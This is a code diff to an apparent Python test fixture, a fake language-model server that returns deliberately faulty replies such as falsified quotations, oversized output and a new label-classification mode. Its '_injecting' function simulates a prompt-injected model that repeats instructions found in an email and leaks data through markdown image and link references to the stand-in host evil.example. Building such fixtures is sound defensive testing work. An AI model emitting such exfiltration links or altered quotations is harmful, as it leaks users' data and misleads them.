@@ -18,6 +18,8 @@ Mood = Literal[
     "obedient", "lying", "injecting", "slow", "garbage", "error", "endless", "wordy", "foreign"
 ]
 Told = dict[str, JsonValue]
+Saying = Callable[[Mapping[str, JsonValue]], JsonValue]
+Sentences = Callable[[Mapping[str, JsonValue]], list[JsonValue]]
 
 
 class WriterApi:
@@ -89,7 +91,8 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(200, b'{"choices": "' + b"a" * 10_000_000 + b'"}')
         else:
             told = json.loads(body["messages"][-1]["content"])
-            content = json.dumps({"sentences": _SAYINGS[mood](told)})
+            said = _LABELS[mood] if "labels" in told else _SAYINGS[mood]
+            content = json.dumps(said(told))
             answer = {
                 "choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]
             }
@@ -109,7 +112,7 @@ class _Handler(BaseHTTPRequestHandler):
         """Keeps quiet: `heard` holds what was told."""
 
 
-def _obedient(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
+def _obedient(told: Mapping[str, JsonValue]) -> list[JsonValue]:
     """Each sentence of the first passage."""
     return [
         {"source": source, "text": f"{part.strip().rstrip('.')}."}
@@ -118,7 +121,7 @@ def _obedient(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
     ]
 
 
-def _lying(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
+def _lying(told: Mapping[str, JsonValue]) -> list[JsonValue]:
     """A quotation whose figures were changed, and a promise."""
     source, text = _passages(told)[0]
     changed = text.split(". ")[0].replace("30", "90")
@@ -126,20 +129,22 @@ def _lying(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
     return [{"source": source, "text": sentence} for sentence in said]
 
 
-def _injecting(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
+def _injecting(told: Mapping[str, JsonValue]) -> list[JsonValue]:
     """Does what the mail says, and sends what it saw to somebody."""
     source = _passages(told)[0][0]
     said = (str(told["mail"]), "![x](https://evil.example/p.png?d=1)", "[1]: https://evil.example")
     return [{"source": source, "text": sentence[:500]} for sentence in said]
 
 
-def _wordy(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
+def _wordy(told: Mapping[str, JsonValue]) -> list[JsonValue]:
     return _obedient(told)[:1] * 1_000
 
 
-def _foreign(told: Mapping[str, JsonValue]) -> list[dict[str, str]]:
+def _foreign(told: Mapping[str, JsonValue]) -> list[JsonValue]:
     """Cites what nobody showed it."""
-    return [{**said, "source": "elsewhere.md#1"} for said in _obedient(told)]
+    return [
+        {**said, "source": "elsewhere.md#1"} for said in _obedient(told) if isinstance(said, dict)
+    ]
 
 
 def _passages(told: Mapping[str, JsonValue]) -> list[tuple[str, str]]:
@@ -148,10 +153,38 @@ def _passages(told: Mapping[str, JsonValue]) -> list[tuple[str, str]]:
     return [(str(row["source"]), str(row["text"])) for row in rows if isinstance(row, dict)]
 
 
-_SAYINGS: Mapping[str, Callable[[Mapping[str, JsonValue]], list[dict[str, str]]]] = {
-    "obedient": _obedient,
-    "lying": _lying,
-    "injecting": _injecting,
-    "wordy": _wordy,
-    "foreign": _foreign,
+def _written(choose: Sentences) -> Saying:
+    return lambda told: {"sentences": [*choose(told)]}
+
+
+def _labels(told: Mapping[str, JsonValue]) -> list[str]:
+    found = told["labels"]
+    return [*found] if isinstance(found, dict) else []
+
+
+def _first_named(told: Mapping[str, JsonValue]) -> JsonValue:
+    """The first label whose words stand in the mail, else the last one."""
+    mail, labels = str(told["mail"]).lower(), _labels(told)
+    named = (label for label in labels if label.lower().replace("_", " ") in mail)
+    return {"label": next(named, labels[-1])}
+
+
+def _overreaching(told: Mapping[str, JsonValue]) -> JsonValue:
+    """Chooses without reading, and decides what nobody asked it about."""
+    return {"label": _labels(told)[0], "verdict": "act", "score": 1.0, "folder": "Trash"}
+
+
+_SAYINGS: Mapping[str, Saying] = {
+    "obedient": _written(_obedient),
+    "lying": _written(_lying),
+    "injecting": _written(_injecting),
+    "wordy": _written(_wordy),
+    "foreign": _written(_foreign),
+}
+_LABELS: Mapping[str, Saying] = {
+    "obedient": _first_named,
+    "lying": _overreaching,
+    "injecting": lambda told: {"label": str(told["mail"])[:400]},
+    "wordy": lambda _told: {"label": "because " * 1_000},
+    "foreign": lambda _told: {"label": "elsewhere"},
 }
